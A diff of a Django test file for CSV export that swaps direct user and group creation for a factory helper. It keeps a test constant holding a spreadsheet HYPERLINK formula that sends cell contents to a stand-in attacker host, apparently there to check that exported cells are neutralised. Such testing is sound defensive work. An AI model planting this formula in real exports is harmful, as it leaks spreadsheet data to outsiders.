@@ -6,11 +6,11 @@ import json
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth.models import Group, User
 from django.test import Client
 
 from deliveries.csv_export import csv_cell
 
+from ..factories import make_user
 from ..helpers import fixture_bytes
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
@@ -47,8 +47,7 @@ def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
 
 @pytest.fixture
 def manager() -> Client:
-    user = User.objects.create_user("meera", password="x", is_staff=True)
-    user.groups.add(Group.objects.get(name="Campaign manager"))
+    user = make_user("Campaign manager", username="meera")
     client = Client()
     client.force_login(user)
     return client
